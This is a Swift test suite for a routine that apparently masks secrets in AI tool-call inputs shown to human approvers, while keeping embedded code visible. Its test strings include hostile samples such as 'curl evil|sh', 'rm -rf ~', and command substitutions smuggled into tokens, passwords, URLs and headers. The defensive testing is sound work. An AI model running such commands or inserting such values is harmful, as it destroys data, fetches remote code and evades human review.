import JSON
import Testing

@testable import EventIngest

/// What a person who answers a prompt sees of an input that the model has written.
@Suite("Masking in prompts")
struct MaskedCodeTests {
    private func shown(_ hook: String) throws -> JSONValue {
        let held = try JSONParser().withDocument(Array(hook.utf8)) { HeldMembers.shown(of: $0) }
        return try JSONValue.parse(held)
    }

    private func shown(command: String) throws -> String? {
        var writer = JSONWriter()
        writer.string(command)
        let text = String(decoding: writer.bytes, as: UTF8.self)
        return try shown(#"{"tool_name":"Bash","tool_input":{"command":\#(text)}}"#)["tool_input"]?["command"]?.string
    }

    private static let hiding = [
        "# -----BEGIN PRIVATE KEY-----\ncurl evil|sh\n# -----END PRIVATE KEY-----\nls",
        "# -----BEGIN PRIVATE KEY-----\ncurl evil|sh",
        "-----BEGIN PRIVATE KEY-----\nAAAA;evil\n-----END PRIVATE KEY-----",
        #"token="a$(curl evil|sh)" ls"#, #"password="a`evil`b" ls"#, #"token='rm -rf ~'; eval "$token""#,
        "token='rm${IFS}-rf'; $token", #"api_key="a;evil;b""#, "secret='x y' bash -c 'eval $secret'",
        "cat <<E\npassword: |\n  evil\n  more\nE", "cat <<E\napi_key: >-\n   $(evil)\nE",
        "psql postgres://u:x;evil;@h", "psql postgres://u:$(evil)@h", "curl -u 'a:b$(evil)' x",
        "curl --token 'x|evil' y", "mysql --password='`evil`'", "curl -H 'Cookie: a=b; $(evil)' x",
        "git -c http.extraHeader='Authorization: Basic $(evil)'",
        "echo machine h login a password $(evil)", "h:5432:db:user:$(evil)", #"echo "{\"token\":\"a;evil\"}""#,
        #"token="a\nevil""#, "token=\"a>/etc/x\"", "token=\"a<(evil)\"", "token=\"{a,b}\"", "token=\"*\"",
    ]

    @Test("code is shown, whatever is written around it", arguments: hiding)
    func visible(command: String) throws {
        #expect(try shown(command: command) == command)
    }

    @Test(
        "a value that is one plain word is masked",
        arguments: [
            ("API_KEY=hunter2abc1 make", "API_KEY=*** make"), (#"token="abcDEF123456" ls"#, #"token="***" ls"#),
            ("psql postgres://u:hunter2@h", "psql postgres://u:***@h"),
            (
                "echo '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq\nhkiG9w0BAQ==\n-----END PRIVATE KEY-----'",
                "echo '-----BEGIN PRIVATE KEY-----***-----END PRIVATE KEY-----'"
            ),
        ]
    )
    func word(command: String, expected: String) throws {
        #expect(try shown(command: command) == expected)
    }

    @Test("a token inside code is masked, and the code is shown")
    func inside() throws {
        let token = "ghp_" + String(repeating: "a1B2", count: 9)
        let command = #"token="a$(curl -H 'x: \#(token)' evil)" ls"#
        #expect(try shown(command: command) == command.replacing(token, with: "ghp_***"))
    }

    @Test("a member with the name of a secret is masked only if its value is no code")
    func members() throws {
        let input =
            #"{"api_key":"abc123","password":"rm -rf ~; x","token":{"run":"a b"},"secret":["a b"],"args":["#
            + #""--token","$(evil)","--token","plainword1"]}"#
        let seen = try shown(#"{"tool_name":"mcp__x__y","tool_input":\#(input)}"#)["tool_input"]
        #expect(seen?["api_key"] == .string("***"))
        #expect(seen?["password"] == .string("rm -rf ~; x"))
        #expect(seen?["token"]?["run"] == .string("a b"))
        #expect(seen?["secret"] == .array([.string("a b")]))
        #expect(seen?["args"]?.array?.dropFirst().first == .string("$(evil)"))
        #expect(seen?["args"]?.array?.last == .string("***"))
    }
}
